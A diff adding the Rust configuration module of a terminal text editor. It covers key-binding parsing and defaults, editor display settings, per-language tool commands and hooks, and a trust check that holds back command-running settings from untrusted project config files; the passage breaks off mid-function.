@@ -0,0 +1,1049 @@
+use crossterm::{
+    cursor::SetCursorStyle,
+    event::{KeyCode, KeyEvent, KeyModifiers},
+};
+use serde::Deserialize;
+use std::{
+    collections::HashMap,
+    env, fs,
+    path::{Path, PathBuf},
+};
+
+#[cfg(feature = "headless")]
+use crate::headless;
+
+/// A key combination such as `ctrl+a` or `shift+f5`, as written in the config file.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub struct KeyBinding {
+    code: KeyCode,
+    modifiers: KeyModifiers,
+}
+
+impl KeyBinding {
+    pub fn parse(text: &str) -> Option<Self> {
+        let mut modifiers = KeyModifiers::NONE;
+        let mut code = None;
+
+        for part in text.split('+') {
+            let part = part.trim().to_lowercase();
+            match part.as_str() {
+                "ctrl" | "control" => modifiers |= KeyModifiers::CONTROL,
+                "alt" => modifiers |= KeyModifiers::ALT,
+                "shift" => modifiers |= KeyModifiers::SHIFT,
+                _ => code = Some(Self::parse_code(&part)?),
+            }
+        }
+
+        Some(Self {
+            code: code?,
+            modifiers,
+        })
+    }
+
+    fn parse_code(text: &str) -> Option<KeyCode> {
+        let code = match text {
+            "enter" => KeyCode::Enter,
+            "esc" | "escape" => KeyCode::Esc,
+            "tab" => KeyCode::Tab,
+            "backspace" => KeyCode::Backspace,
+            "delete" | "del" => KeyCode::Delete,
+            "insert" | "ins" => KeyCode::Insert,
+            "up" => KeyCode::Up,
+            "down" => KeyCode::Down,
+            "left" => KeyCode::Left,
+            "right" => KeyCode::Right,
+            "home" => KeyCode::Home,
+            "end" => KeyCode::End,
+            "pageup" => KeyCode::PageUp,
+            "pagedown" => KeyCode::PageDown,
+            "space" => KeyCode::Char(' '),
+            _ => {
+                if let Some(number) = text.strip_prefix('f') {
+                    if let Ok(number) = number.parse() {
+                        return Some(KeyCode::F(number));
+                    }
+                }
+
+                let mut chars = text.chars();
+                let c = chars.next()?;
+                if chars.next().is_some() {
+                    return None;
+                }
+                KeyCode::Char(c)
+            }
+        };
+
+        Some(code)
+    }
+
+    pub fn matches(&self, event: &KeyEvent) -> bool {
+        // Terminals report shift+letter as the uppercase letter, while bindings use lowercase
+        let code = match event.code {
+            KeyCode::Char(c) if event.modifiers.contains(KeyModifiers::SHIFT) => {
+                KeyCode::Char(c.to_ascii_lowercase())
+            }
+            code => code,
+        };
+
+        self.code == code && self.modifiers == event.modifiers
+    }
+}
+
+#[derive(Deserialize)]
+#[serde(default)]
+pub struct KeysConfig {
+    pub select_all: String,
+    pub copy: String,
+    pub cut: String,
+    pub paste: String,
+    pub paste_reindented: String,
+    pub insert_codepoint: String,
+    pub complete: String,
+    pub sort_lines: String,
+    pub uppercase: String,
+    pub lowercase: String,
+    pub title_case: String,
+    pub reflow_paragraph: String,
+    pub message_log: String,
+    pub next_buffer: String,
+    pub previous_buffer: String,
+    pub save_all: String,
+    pub close_all: String,
+    pub save_all_and_quit: String,
+    pub replace: String,
+    pub reload_config: String,
+    pub statistics: String,
+    pub inspect_character: String,
+    pub select_inside: String,
+    pub select_around: String,
+    pub surround: String,
+    pub change_surround: String,
+    pub undo: String,
+    pub redo: String,
+    pub undo_tree: String,
+    pub revert: String,
+    pub rename: String,
+    pub follow: String,
+    pub ansi_colors: String,
+    pub debug_overlay: String,
+    pub open: String,
+    pub project_replace: String,
+    pub build: String,
+    pub test: String,
+    pub run: String,
+    pub next_location: String,
+    pub previous_location: String,
+    pub git_status: String,
+    pub git_commit: String,
+    pub stage_hunk: String,
+    pub revert_hunk: String,
+    pub keep_ours: String,
+    pub keep_theirs: String,
+    pub keep_both: String,
+    pub compare_saved: String,
+    pub outline: String,
+    pub rename_symbol: String,
+    pub hover: String,
+    pub code_actions: String,
+    pub format_selection: String,
+    pub workspace_symbols: String,
+    pub toggle_breakpoint: String,
+    pub debug_continue: String,
+    pub step_over: String,
+    pub step_into: String,
+    pub step_out: String,
+    pub debug_stop: String,
+    pub send_to_repl: String,
+    pub toggle_checkbox: String,
+    pub format_table: String,
+    pub open_url: String,
+    pub split_pane: String,
+    pub focus_pane: String,
+    pub repeat_edit: String,
+    pub record_macro: String,
+    pub play_macro: String,
+    pub half_page_down: String,
+    pub half_page_up: String,
+    pub find_file: String,
+    pub stop_jobs: String,
+    pub project_search: String,
+}
+
+impl Default for KeysConfig {
+    fn default() -> Self {
+        Self {
+            select_all: String::from("ctrl+a"),
+            copy: String::from("ctrl+c"),
+            cut: String::from("ctrl+x"),
+            paste: String::from("ctrl+v"),
+            paste_reindented: String::from("alt+v"),
+            insert_codepoint: String::from("alt+u"),
+            complete: String::from("ctrl+n"),
+            sort_lines: String::from("alt+s"),
+            uppercase: String::from("alt+shift+u"),
+            lowercase: String::from("alt+l"),
+            title_case: String::from("alt+c"),
+            reflow_paragraph: String::from("alt+q"),
+            message_log: String::from("alt+m"),
+            next_buffer: String::from("alt+."),
+            previous_buffer: String::from("alt+,"),
+            save_all: String::from("alt+w"),
+            close_all: String::from("alt+x"),
+            save_all_and_quit: String::from("alt+shift+x"),
+            replace: String::from("ctrl+r"),
+            reload_config: String::from("alt+r"),
+            statistics: String::from("alt+="),
+            inspect_character: String::from("alt+i"),
+            select_inside: String::from("alt+o"),
+            select_around: String::from("alt+a"),
+            surround: String::from("alt+d"),
+            change_surround: String::from("alt+shift+d"),
+            undo: String::from("ctrl+z"),
+            redo: String::from("ctrl+y"),
+            undo_tree: String::from("alt+z"),
+            revert: String::from("alt+shift+r"),
+            rename: String::from("alt+shift+n"),
+            follow: String::from("alt+f"),
+            ansi_colors: String::from("alt+e"),
+            debug_overlay: String::from("f12"),
+            open: String::from("ctrl+o"),
+            project_replace: String::from("alt+p"),
+            build: String::from("f7"),
+            test: String::from("f6"),
+            run: String::from("f9"),
+            next_location: String::from("alt+j"),
+            previous_location: String::from("alt+k"),
+            git_status: String::from("alt+g"),
+            git_commit: String::from("alt+shift+c"),
+            stage_hunk: String::from("alt+h"),
+            revert_hunk: String::from("alt+shift+h"),
+            keep_ours: String::from("alt+<"),
+            keep_theirs: String::from("alt+>"),
+            keep_both: String::from("alt+b"),
+            compare_saved: String::from("alt+shift+s"),
+            outline: String::from("alt+shift+l"),
+            rename_symbol: String::from("f2"),
+            hover: String::from("alt+t"),
+            code_actions: String::from("alt+enter"),
+            format_selection: String::from("alt+shift+f"),
+            workspace_symbols: String::from("ctrl+t"),
+            toggle_breakpoint: String::from("f4"),
+            debug_continue: String::from("shift+f5"),
+            step_over: String::from("f10"),
+            step_into: String::from("f11"),
+            step_out: String::from("shift+f11"),
+            debug_stop: String::from("shift+f4"),
+            send_to_repl: String::from("ctrl+e"),
+            toggle_checkbox: String::from("alt+shift+t"),
+            format_table: String::from("alt+shift+a"),
+            open_url: String::from("alt+shift+o"),
+            split_pane: String::from("alt+shift+w"),
+            focus_pane: String::from("ctrl+w"),
+            repeat_edit: String::from("alt+;"),
+            record_macro: String::from("alt+shift+q"),
+            play_macro: String::from("alt+shift+m"),
+            half_page_down: String::from("ctrl+d"),
+            half_page_up: String::from("ctrl+u"),
+            find_file: String::from("ctrl+p"),
+            stop_jobs: String::from("shift+f7"),
+            project_search: String::from("alt+shift+p"),
+        }
+    }
+}
+
+/// The parsed form of `KeysConfig`, ready to be matched against key events.
+pub struct KeyBindings {
+    pub select_all: KeyBinding,
+    pub copy: KeyBinding,
+    pub cut: KeyBinding,
+    pub paste: KeyBinding,
+    pub paste_reindented: KeyBinding,
+    pub insert_codepoint: KeyBinding,
+    pub complete: KeyBinding,
+    pub sort_lines: KeyBinding,
+    pub uppercase: KeyBinding,
+    pub lowercase: KeyBinding,
+    pub title_case: KeyBinding,
+    pub reflow_paragraph: KeyBinding,
+    pub message_log: KeyBinding,
+    pub next_buffer: KeyBinding,
+    pub previous_buffer: KeyBinding,
+    pub save_all: KeyBinding,
+    pub close_all: KeyBinding,
+    pub save_all_and_quit: KeyBinding,
+    pub replace: KeyBinding,
+    pub reload_config: KeyBinding,
+    pub statistics: KeyBinding,
+    pub inspect_character: KeyBinding,
+    pub select_inside: KeyBinding,
+    pub select_around: KeyBinding,
+    pub surround: KeyBinding,
+    pub change_surround: KeyBinding,
+    pub undo: KeyBinding,
+    pub redo: KeyBinding,
+    pub undo_tree: KeyBinding,
+    pub revert: KeyBinding,
+    pub rename: KeyBinding,
+    pub follow: KeyBinding,
+    pub ansi_colors: KeyBinding,
+    pub debug_overlay: KeyBinding,
+    pub open: KeyBinding,
+    pub project_replace: KeyBinding,
+    pub build: KeyBinding,
+    pub test: KeyBinding,
+    pub run: KeyBinding,
+    pub next_location: KeyBinding,
+    pub previous_location: KeyBinding,
+    pub git_status: KeyBinding,
+    pub git_commit: KeyBinding,
+    pub stage_hunk: KeyBinding,
+    pub revert_hunk: KeyBinding,
+    pub keep_ours: KeyBinding,
+    pub keep_theirs: KeyBinding,
+    pub keep_both: KeyBinding,
+    pub compare_saved: KeyBinding,
+    pub outline: KeyBinding,
+    pub rename_symbol: KeyBinding,
+    pub hover: KeyBinding,
+    pub code_actions: KeyBinding,
+    pub format_selection: KeyBinding,
+    pub workspace_symbols: KeyBinding,
+    pub toggle_breakpoint: KeyBinding,
+    pub debug_continue: KeyBinding,
+    pub step_over: KeyBinding,
+    pub step_into: KeyBinding,
+    pub step_out: KeyBinding,
+    pub debug_stop: KeyBinding,
+    pub send_to_repl: KeyBinding,
+    pub toggle_checkbox: KeyBinding,
+    pub format_table: KeyBinding,
+    pub open_url: KeyBinding,
+    pub split_pane: KeyBinding,
+    pub focus_pane: KeyBinding,
+    pub repeat_edit: KeyBinding,
+    pub record_macro: KeyBinding,
+    pub play_macro: KeyBinding,
+    pub half_page_down: KeyBinding,
+    pub half_page_up: KeyBinding,
+    pub find_file: KeyBinding,
+    pub stop_jobs: KeyBinding,
+    pub project_search: KeyBinding,
+}
+
+impl KeysConfig {
+    /// Lists every configurable binding with a short description, for the help screen.
+    #[allow(clippy::too_many_lines)]
+    pub fn help(&self) -> Vec<(String, &'static str)> {
+        vec![
+            (self.undo.clone(), "undo"),
+            (self.redo.clone(), "redo"),
+            (self.undo_tree.clone(), "show undo tree"),
+            (self.select_all.clone(), "select all"),
+            (
+                self.select_inside.clone(),
+                "select inside a word, bracket or quote",
+            ),
+            (
+                self.select_around.clone(),
+                "select around a word, bracket or quote",
+            ),
+            (self.copy.clone(), "copy"),
+            (self.cut.clone(), "cut"),
+            (self.paste.clone(), "paste"),
+            (self.paste_reindented.clone(), "paste re-indented"),
+            (
+                self.insert_codepoint.clone(),
+                "insert character by codepoint",
+            ),
+            (self.complete.clone(), "complete word"),
+            (self.build.clone(), "build the project"),
+            (self.test.clone(), "test the project"),
+            (self.run.clone(), "run the project"),
+            (self.stop_jobs.clone(), "stop the running project commands"),
+            (
+                self.git_status.clone(),
+                "show the git status and stage files",
+            ),
+            (
+                self.git_commit.clone(),
+                "write a commit message, saving it commits",
+            ),
+            (
+                self.keep_ours.clone(),
+                "resolve the merge conflict with our side",
+            ),
+            (
+                self.keep_theirs.clone(),
+                "resolve the merge conflict with their side",
+            ),
+            (
+                self.keep_both.clone(),
+                "resolve the merge conflict with both sides",
+            ),
+            (
+                self.compare_saved.clone(),
+                "compare the buffer with the saved file",
+            ),
+            (
+                self.outline.clone(),
+                "open or close the outline of functions, types and headings",
+            ),
+            (self.stage_hunk.clone(), "stage the change under the cursor"),
+            (
+                self.revert_hunk.clone(),
+                "revert the change under the cursor to the staged version",
+            ),
+            (
+                self.next_location.clone(),
+                "go to the next location in the command output",
+            ),
+            (
+                self.previous_location.clone(),
+                "go to the previous location in the command output",
+            ),
+            (
+                self.project_search.clone(),
+                "search every project file, listing the matches as locations",
+            ),
+            (
+                self.project_replace.clone(),
+                "find and replace in every project file",
+            ),
+            (self.replace.clone(), "replace regex matches"),
+            (self.surround.clone(), "surround selection or word"),
+            (
+                self.change_surround.clone(),
+                "change or remove surrounding pair",
+            ),
+            (self.sort_lines.clone(), "sort lines"),
+            (self.uppercase.clone(), "uppercase"),
+            (self.lowercase.clone(), "lowercase"),
+            (self.title_case.clone(), "title case"),
+            (self.reflow_paragraph.clone(), "reflow paragraph"),
+            (self.message_log.clone(), "show message log"),
+            (self.next_buffer.clone(), "next buffer"),
+            (self.previous_buffer.clone(), "previous buffer"),
+            (self.revert.clone(), "revert to the saved file"),
+            (self.follow.clone(), "follow lines appended to the file"),
+            (self.ansi_colors.clone(), "show ANSI colors or escape codes"),
+            (
+                self.debug_overlay.clone(),
+                "show frame timing and document size",
+            ),
+            (self.open.clone(), "open a file"),
+            (
+                self.find_file.clone(),
+                "open a project file by part of its path",
+            ),
+            (self.rename.clone(), "rename or move the file"),
+            (
+                self.hover.clone(),
+                "show the documentation of the symbol under the cursor",
+            ),
+            (self.format_selection.clone(), "format the selected lines"),
+            (
+                self.code_actions.clone(),
+                "pick a fix or refactoring for the cursor",
+            ),
+            (
+                self.workspace_symbols.clone(),
+                "find a definition anywhere in the project",
+            ),
+            (
+                self.rename_symbol.clone(),
+                "rename the symbol under the cursor in every file",
+            ),
+            (
+                self.toggle_breakpoint.clone(),
+                "set or clear a breakpoint on the line",
+            ),
+            (
+                self.debug_continue.clone(),
+                "start debugging, or continue when paused",
+            ),
+            (self.step_over.clone(), "step to the next line"),
+            (self.step_into.clone(), "step into the called function"),
+            (self.step_out.clone(), "step out of the function"),
+            (self.debug_stop.clone(), "stop debugging"),
+            (
+                self.send_to_repl.clone(),
+                "send the selection or line to the REPL",
+            ),
+            (
+                self.toggle_checkbox.clone(),
+                "check or uncheck a markdown checkbox",
+            ),
+            (
+                self.format_table.clone(),
+                "line up the markdown table under the cursor",
+            ),
+            (
+                self.open_url.clone(),
+                "open the URL under the cursor, or ctrl+click it",
+            ),
+            (self.half_page_down.clone(), "scroll down half a screen"),
+            (self.half_page_up.clone(), "scroll up half a screen"),
+            (
+                self.repeat_edit.clone(),
+                "repeat the last edit, such as the text just typed",
+            ),
+            (
+                self.record_macro.clone(),
+                "start recording a macro of the keys pressed, or stop",
+            ),
+            (self.play_macro.clone(), "play the last recorded macro"),
+            (
+                self.split_pane.clone(),
+                "show another buffer beside this one, or close the split",
+            ),
+            (
+                self.focus_pane.clone(),
+                "move to the other pane, or click it; drag the divider to resize",
+            ),
+            (self.save_all.clone(), "save all buffers"),
+            (self.close_all.clone(), "close all buffers"),
+            (self.save_all_and_quit.clone(), "save all buffers and quit"),
+            (self.reload_config.clone(), "reload config and theme"),
+            (self.statistics.clone(), "count lines, words and characters"),
+            (
+                self.inspect_character.clone(),
+                "inspect character under cursor",
+            ),
+        ]
+    }
+
+    /// Parses every binding, keeping the default for the ones that aren't valid keys.
+    pub fn bindings(&self) -> KeyBindings {
+        let defaults = Self::default();
+        let parse = |binding: &str, fallback: &str| {
+            KeyBinding::parse(binding)
+                .or_else(|| KeyBinding::parse(fallback))
+                .unwrap_or(KeyBinding {
+                    code: KeyCode::Null,
+                    modifiers: KeyModifiers::NONE,
+                })
+        };
+
+        KeyBindings {
+            select_all: parse(&self.select_all, &defaults.select_all),
+            copy: parse(&self.copy, &defaults.copy),
+            cut: parse(&self.cut, &defaults.cut),
+            paste: parse(&self.paste, &defaults.paste),
+            paste_reindented: parse(&self.paste_reindented, &defaults.paste_reindented),
+            insert_codepoint: parse(&self.insert_codepoint, &defaults.insert_codepoint),
+            complete: parse(&self.complete, &defaults.complete),
+            sort_lines: parse(&self.sort_lines, &defaults.sort_lines),
+            uppercase: parse(&self.uppercase, &defaults.uppercase),
+            lowercase: parse(&self.lowercase, &defaults.lowercase),
+            title_case: parse(&self.title_case, &defaults.title_case),
+            reflow_paragraph: parse(&self.reflow_paragraph, &defaults.reflow_paragraph),
+            message_log: parse(&self.message_log, &defaults.message_log),
+            next_buffer: parse(&self.next_buffer, &defaults.next_buffer),
+            previous_buffer: parse(&self.previous_buffer, &defaults.previous_buffer),
+            save_all: parse(&self.save_all, &defaults.save_all),
+            close_all: parse(&self.close_all, &defaults.close_all),
+            save_all_and_quit: parse(&self.save_all_and_quit, &defaults.save_all_and_quit),
+            replace: parse(&self.replace, &defaults.replace),
+            reload_config: parse(&self.reload_config, &defaults.reload_config),
+            statistics: parse(&self.statistics, &defaults.statistics),
+            inspect_character: parse(&self.inspect_character, &defaults.inspect_character),
+            select_inside: parse(&self.select_inside, &defaults.select_inside),
+            select_around: parse(&self.select_around, &defaults.select_around),
+            surround: parse(&self.surround, &defaults.surround),
+            change_surround: parse(&self.change_surround, &defaults.change_surround),
+            undo: parse(&self.undo, &defaults.undo),
+            redo: parse(&self.redo, &defaults.redo),
+            undo_tree: parse(&self.undo_tree, &defaults.undo_tree),
+            revert: parse(&self.revert, &defaults.revert),
+            rename: parse(&self.rename, &defaults.rename),
+            follow: parse(&self.follow, &defaults.follow),
+            ansi_colors: parse(&self.ansi_colors, &defaults.ansi_colors),
+            debug_overlay: parse(&self.debug_overlay, &defaults.debug_overlay),
+            open: parse(&self.open, &defaults.open),
+            project_replace: parse(&self.project_replace, &defaults.project_replace),
+            build: parse(&self.build, &defaults.build),
+            test: parse(&self.test, &defaults.test),
+            run: parse(&self.run, &defaults.run),
+            next_location: parse(&self.next_location, &defaults.next_location),
+            previous_location: parse(&self.previous_location, &defaults.previous_location),
+            git_status: parse(&self.git_status, &defaults.git_status),
+            git_commit: parse(&self.git_commit, &defaults.git_commit),
+            stage_hunk: parse(&self.stage_hunk, &defaults.stage_hunk),
+            revert_hunk: parse(&self.revert_hunk, &defaults.revert_hunk),
+            keep_ours: parse(&self.keep_ours, &defaults.keep_ours),
+            keep_theirs: parse(&self.keep_theirs, &defaults.keep_theirs),
+            keep_both: parse(&self.keep_both, &defaults.keep_both),
+            compare_saved: parse(&self.compare_saved, &defaults.compare_saved),
+            outline: parse(&self.outline, &defaults.outline),
+            rename_symbol: parse(&self.rename_symbol, &defaults.rename_symbol),
+            hover: parse(&self.hover, &defaults.hover),
+            code_actions: parse(&self.code_actions, &defaults.code_actions),
+            format_selection: parse(&self.format_selection, &defaults.format_selection),
+            workspace_symbols: parse(&self.workspace_symbols, &defaults.workspace_symbols),
+            toggle_breakpoint: parse(&self.toggle_breakpoint, &defaults.toggle_breakpoint),
+            debug_continue: parse(&self.debug_continue, &defaults.debug_continue),
+            step_over: parse(&self.step_over, &defaults.step_over),
+            step_into: parse(&self.step_into, &defaults.step_into),
+            step_out: parse(&self.step_out, &defaults.step_out),
+            debug_stop: parse(&self.debug_stop, &defaults.debug_stop),
+            send_to_repl: parse(&self.send_to_repl, &defaults.send_to_repl),
+            toggle_checkbox: parse(&self.toggle_checkbox, &defaults.toggle_checkbox),
+            format_table: parse(&self.format_table, &defaults.format_table),
+            open_url: parse(&self.open_url, &defaults.open_url),
+            split_pane: parse(&self.split_pane, &defaults.split_pane),
+            focus_pane: parse(&self.focus_pane, &defaults.focus_pane),
+            repeat_edit: parse(&self.repeat_edit, &defaults.repeat_edit),
+            record_macro: parse(&self.record_macro, &defaults.record_macro),
+            play_macro: parse(&self.play_macro, &defaults.play_macro),
+            half_page_down: parse(&self.half_page_down, &defaults.half_page_down),
+            half_page_up: parse(&self.half_page_up, &defaults.half_page_up),
+            find_file: parse(&self.find_file, &defaults.find_file),
+            stop_jobs: parse(&self.stop_jobs, &defaults.stop_jobs),
+            project_search: parse(&self.project_search, &defaults.project_search),
+        }
+    }
+}
+
+#[derive(Deserialize)]
+#[serde(default)]
+#[allow(clippy::struct_excessive_bools)]
+pub struct EditorConfig {
+    /// Re-indent multi-line pastes to the cursor's indentation on every paste.
+    pub reindent_paste: bool,
+    /// The width paragraphs are wrapped to when reflowing them.
+    pub text_width: usize,
+    /// Strip trailing whitespace from every row when saving.
+    pub trim_trailing_whitespace: bool,
+    /// Save a symlinked file by writing the file it points to, rather than replacing
+    /// the link with a regular file.
+    pub follow_symlinks: bool,
+    /// How long an on-save hook may run before it is killed, in seconds.
+    pub hook_timeout: u64,
+    /// Show line numbers in a gutter left of the text.
+    pub line_numbers: bool,
+    /// Mark rows changed since the last save in the gutter, or since the staged
+    /// version for files tracked by git.
+    pub change_markers: bool,
+    /// Show the colors of ANSI escape sequences, as found in build logs, instead
+    /// of the sequences themselves in files that contain them.
+    pub ansi_colors: bool,
+    /// Pin the functions, types or headings the cursor is inside above the text
+    /// when they're scrolled out of view.
+    pub sticky_header: bool,
+    /// Draw a swatch of each `#rrggbb` color after the lines of CSS and config files
+    /// that contain them.
+    pub color_swatches: bool,
+    /// The rows kept visible above and below the cursor when scrolling, as far as
+    /// the document allows.
+    pub scroll_off: usize,
+    /// The rows a turn of the mouse wheel scrolls.
+    pub wheel_lines: usize,
+    /// The rows of the last page still shown after Page Up or Page Down.
+    pub page_overlap: usize,
+    /// Show Nerd Font file icons in the status bar and file lists. They need a
+    /// patched font.
+    pub icons: bool,
+    /// Draw the status bar as powerline segments, which need a patched font too.
+    pub powerline: bool,
+    /// The shape of the cursor while typing inserts text.
+    pub cursor_shape: CursorShape,
+    /// The shape of the cursor in overwrite mode, so the mode can be told apart. The
+    /// prompt line keeps `cursor_shape`, as typing there always inserts.
+    pub overwrite_cursor_shape: CursorShape,
+    /// Whether the cursor blinks, for the shapes set here.
+    pub cursor_blink: bool,
+    /// The base16 color scheme to use, by name or path.
+    pub theme: Option<String>,
+}
+
+impl Default for EditorConfig {
+    fn default() -> Self {
+        Self {
+            reindent_paste: false,
+            text_width: 80,
+            trim_trailing_whitespace: false,
+            follow_symlinks: true,
+            hook_timeout: 10,
+            line_numbers: false,
+            change_markers: true,
+            ansi_colors: false,
+            sticky_header: true,
+            color_swatches: true,
+            scroll_off: 0,
+            wheel_lines: 3,
+            page_overlap: 0,
+            icons: false,
+            powerline: false,
+            cursor_shape: CursorShape::Default,
+            overwrite_cursor_shape: CursorShape::Underline,
+            cursor_blink: true,
+            theme: None,
+        }
+    }
+}
+
+/// The shape of the cursor, written `block`, `bar` or `underline` in the config
+/// file, or `default` to keep the one set in the terminal.
+#[derive(Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum CursorShape {
+    Default,
+    Block,
+    Bar,
+    Underline,
+}
+
+impl CursorShape {
+    /// The terminal's cursor style for the shape, blinking or steady.
+    pub fn style(self, blink: bool) -> SetCursorStyle {
+        match (self, blink) {
+            (Self::Default, _) => SetCursorStyle::DefaultUserShape,
+            (Self::Block, true) => SetCursorStyle::BlinkingBlock,
+            (Self::Block, false) => SetCursorStyle::SteadyBlock,
+            (Self::Bar, true) => SetCursorStyle::BlinkingBar,
+            (Self::Bar, false) => SetCursorStyle::SteadyBar,
+            (Self::Underline, true) => SetCursorStyle::BlinkingUnderScore,
+            (Self::Underline, false) => SetCursorStyle::SteadyUnderScore,
+        }
+    }
+}
+
+/// Settings for a single file type, e.g. `[filetype.rust]`, some of them overriding the
+/// `[editor]` ones.
+#[derive(Deserialize, Default)]
+#[serde(default)]
+pub struct FileTypeConfig {
+    pub trim_trailing_whitespace: Option<bool>,
+    /// The command that starts the language server, or an empty one for none.
+    pub language_server: Option<String>,
+    /// A command that formats the code on its stdin to its stdout, used to format
+    /// a selection, e.g. `rustfmt`. Without one the language server does it.
+    pub formatter: Option<String>,
+}
+
+/// The shell commands that build, test and run the project, usually set in its
+/// `.voider.toml`. They run in the project root.
+#[derive(Deserialize, Default)]
+#[serde(default)]
+pub struct CommandsConfig {
+    pub build: Option<String>,
+    pub test: Option<String>,
+    pub run: Option<String>,
+    /// The interactive interpreter code is sent to, e.g. `python3 -i -q -u`, `ghci`
+    /// or `node -i`. It talks through pipes rather than a terminal, which makes
+    /// most interpreters run the code without printing results, so the command
+    /// must force interactive mode, such as with `-i`, or run the interpreter in a
+    /// pseudo-terminal of its own, such as with `script -q /dev/null`.
+    pub repl: Option<String>,
+}
+
+/// The debug adapter that runs the project's program under a debugger, e.g.
+///
+/// ```toml
+/// [debug]
+/// adapter = "lldb-dap"
+/// launch = { program = "target/debug/voider", args = [] }
+/// ```
+///
+/// `launch` is passed to the adapter's launch request as it is, so which settings
+/// it takes depends on the adapter.
+#[derive(Deserialize, Default)]
+#[serde(default)]
+pub struct DebugConfig {
+    pub adapter: Option<String>,
+    pub launch: serde_json::Value,
+}
+
+/// A command run after saving a file whose name matches `pattern`, e.g.
+///
+/// ```toml
+/// [[hooks]]
+/// pattern = "*.rs"
+/// command = "rustfmt {file}"
+/// ```
+#[derive(Deserialize)]
+pub struct HookConfig {
+    pub pattern: String,
+    pub command: String,
+}
+
+/// The file in a project root with settings for that project only.
+pub const PROJECT_CONFIG: &str = ".voider.toml";
+
+/// The settings of the project config that run commands, and so are only used
+/// once the user trusts the project, as a cloned repository could run anything
+/// through them. Settings of file types are named `filetype.*.<setting>`.
+const PROJECT_COMMANDS: [&str; 5] = [
+    "hooks",
+    "commands",
+    "debug",
+    "filetype.*.language_server",
+    "filetype.*.formatter",
+];
+
+/// The settings of a project config that were left out because they run commands
+/// and the project isn't trusted.
+///
+/// # Fields
+///
+/// - `root`: The project root.
+/// - `settings`: The names of the settings, such as `filetype.rust.formatter`.
+/// - `commands`: The settings as they're written, to tell whether they changed
+///   since the user trusted them.
+pub struct Untrusted {
+    pub root: PathBuf,
+    pub settings: Vec<String>,
+    pub commands: String,
+}
+
+/// User settings read from `config.toml` in the voider config directory.
+#[derive(Deserialize, Default)]
+#[serde(default)]
+pub struct Config {
+    pub editor: EditorConfig,
+    pub filetype: HashMap<String, FileTypeConfig>,
+    pub hooks: Vec<HookConfig>,
+    pub commands: CommandsConfig,
+    pub debug: DebugConfig,
+    pub keys: KeysConfig,
+    /// Colors by element name, see `Theme`.
+    pub theme: HashMap<String, String>,
+    #[serde(skip)]
+    pub untrusted: Option<Untrusted>,
+}
+
+impl Config {
+    /// The voider config directory, or `None` while headless, as scripted runs
+    /// start from the defaults rather than the user's own config.
+    pub fn dir() -> Option<PathBuf> {
+        #[cfg(feature = "headless")]
+        if headless::is_active() {
+            return None;
+        }
+        if let Ok(dir) = env::var("XDG_CONFIG_HOME") {
+            return Some(PathBuf::from(dir).join("voider"));
+        }
+
+        env::var("HOME")
+            .ok()
+            .map(|home| PathBuf::from(home).join(".config").join("voider"))
+    }
+
+    fn filetype(&self, file_type: &str) -> Option<&FileTypeConfig> {
+        self.filetype.get(&file_type.to_lowercase())
+    }
+
+    pub fn trim_trailing_whitespace(&self, file_type: &str) -> bool {
+        self.filetype(file_type)
+            .and_then(|config| config.trim_trailing_whitespace)
+            .unwrap_or(self.editor.trim_trailing_whitespace)
+    }
+
+    /// The command that starts the language server for a file type, the usual server
+    /// of the language unless the config sets another.
+    pub fn language_server(&self, file_type: &str) -> Option<&str> {
+        let command = match self
+            .filetype(file_type)
+            .and_then(|config| config.language_server.as_deref())
+        {
+            Some(command) => command,
+            None => match file_type {
+                "Rust" => "rust-analyzer",
+                "Shell" => "bash-language-server start",
+                _ => return None,
+            },
+        };
+        Some(command).filter(|command| !command.trim().is_empty())
+    }
+
+    /// The command that formats code of a file type, if the config sets one.
+    pub fn formatter(&self, file_type: &str) -> Option<&str> {
+        self.filetype(file_type)
+            .and_then(|config| config.formatter.as_deref())
+            .filter(|command| !command.trim().is_empty())
+    }
+
+    /// Loads the user config from `path`, or from the config directory when no path
+    /// is given, falling back to the defaults when that has no config file. The
+    /// `.voider.toml` in the project root, if there is one, overrides it setting by
+    /// setting, while lists such as the hooks replace the user's. Its settings that
+    /// run commands are only used when `trusted` says the user trusts them for the
+    /// project, and are otherwise left in `untrusted`.
+    ///
+    /// # Errors
+    ///
+    /// Returns a description of the problem when a file exists but can't be read or parsed.
+    pub fn load(
+        path: Option<&Path>,
+        project_root: Option<&Path>,
+        trusted: impl FnOnce(&Path, &str) -> bool,
+    ) -> Result<Self, String> {
+        let path = match path {
+            Some(path) => Some(path.to_path_buf()),
+            None => Self::dir()
+                .map(|dir| dir.join("config.toml"))
+                .filter(|path| path.exists()),
+        };
+        let project = project_root
+            .map(|root| root.join(PROJECT_CONFIG))
+            .filter(|path| path.exists());
+
+        let mut table = match &path {
+            Some(path) => read_table(path)?,
+            None => toml::Table::new(),
+        };
+        let mut untrusted = None;
+        if let (Some(project), Some(root)) = (&project, project_root) {
+            let mut overrides = read_table(project)?;
+            let (settings, held) = take_commands(&mut overrides);
+            if !settings.is_empty() {
+                let commands = held.to_string();
+                if trusted(root, &commands) {
+                    merge(&mut overrides, held);
+                } else {
+                    untrusted = Some(Untrusted {
+                        root: root.to_path_buf(),
+                        settings,
+                        commands,
+                    });
+                }
+            }
+            merge(&mut table, overrides);
+        }
+
+        let names: Vec<String> = path
+            .iter()
+            .chain(&project)
+            .map(|path| path.display().to_string())
+            .collect();
+        let mut config: Self = toml::Value::Table(table)
+            .try_into()
+            .map_err(|err: toml::de::Error| format!("{}: {}", names.join(" + "), err.message()))?;
+        config.untrusted = untrusted;
+        Ok(config)
+    }
+}
+
+/// Takes the settings that run commands, see `PROJECT_COMMANDS`, out of a project
+/// config. Returns their names and a table holding them as they were.
+fn take_commands(table: &mut toml::Table) -> (Vec<String>, toml::Table) {
+    let mut names = Vec::new();
+    let mut held = toml::Table::new();
+    for setting in PROJECT_COMMANDS {
+        match setting.split('.').collect::<Vec<_>>().as_slice() {
+            [key] => {
+                if let Some(value) = table.remove(*key) {
+                    names.push((*key).to_string());
+                    held.insert((*key).to_string(), value);
+                }
+            }
+            [section, "*", key] => {
+                let Some(toml::Value::Table(entries)) = table.get_mut(*section) else {
+                    continue;
+                };
+                for (name, entry) in entries.iter_mut() {
+                    let Some(value) = entry.as_table_mut().and_then(|entry| entry.remove(*key))
+                    else {
+                        continue;
+                    };
+                    names.push(format!("{section}.{name}.{key}"));
+                    let mut inner = toml::Table::new();
+                    inner.insert((*key).to_string(), value);
+                    let mut outer = toml::Table::new();
